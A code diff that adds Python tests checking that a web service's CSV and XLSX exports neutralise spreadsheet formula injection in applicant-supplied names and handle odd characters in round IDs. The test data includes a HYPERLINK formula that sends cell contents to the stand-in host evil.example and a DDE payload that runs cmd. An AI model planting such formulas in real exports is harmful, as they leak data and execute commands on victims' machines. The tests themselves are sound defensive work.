@@ -4,12 +4,14 @@ public data and exports."""
 from __future__ import annotations
 
 import asyncio
+import csv
 import io
 import json
 from collections.abc import AsyncIterator, Callable
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 import httpx
 import pytest
@@ -314,3 +316,32 @@ async def test_exports_have_chinese_headers_and_a_city_sees_only_its_own(client:
     assert (await client.province("GET", "/api/v1/exports/annual-reports/2026.csv")).status_code == 200
     assert (await client.province("GET", "/api/v1/exports/platforms.pdf")).status_code == 404
     assert (await client.as_(Role.APPLICANT, "x", "GET", "/api/v1/exports/platforms.csv")).status_code == 403
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+async def test_exports_neutralise_formulas_in_applicant_text(client: Client, make_dossier) -> None:  # type: ignore[no-untyped-def]
+    for i, text in enumerate(FORMULAS):
+        record = decision_of(make_dossier(), f"F{i}", Decision.ACCREDIT, 10 + i)
+        await client.repo.decisions.put(f"F{i}", record.model_copy(update={"platform_name": text,
+                                                                            "applicant_name": text}))
+    csv_rows = list(csv.reader(io.StringIO((await client.province(
+        "GET", "/api/v1/exports/rounds/R1/results.csv")).content.decode("utf-8-sig"))))
+    book = load_workbook(io.BytesIO((await client.province("GET", "/api/v1/exports/rounds/R1/results.xlsx")).content))
+    xlsx_rows = [[c.value for c in row] for row in book.active.iter_rows()]  # type: ignore[union-attr]
+    for rows in (csv_rows, xlsx_rows):
+        names = [row[1].replace("\r", "\n") for row in rows if row[0].startswith("F")]  # XML reads CR as LF
+        assert names == ["'" + t.replace("\r", "\n") for t in FORMULAS]  # kept, inert: shown, never run
+        assert all(not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
+                   if cell is not None)
+    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)  # type: ignore[union-attr]
+
+
+@pytest.mark.parametrize("round_id", ["R[1]", "R:1", "R*?\\1", "第一批", 'R"1'])
+async def test_an_export_of_a_round_with_odd_characters_in_its_id_is_no_500(client: Client, round_id: str) -> None:
+    for fmt in ("csv", "xlsx"):
+        r = await client.province("GET", f"/api/v1/exports/rounds/{quote(round_id, safe='')}/results.{fmt}")
+        assert r.status_code == 200, r.text
+        assert "attachment" in r.headers["content-disposition"]
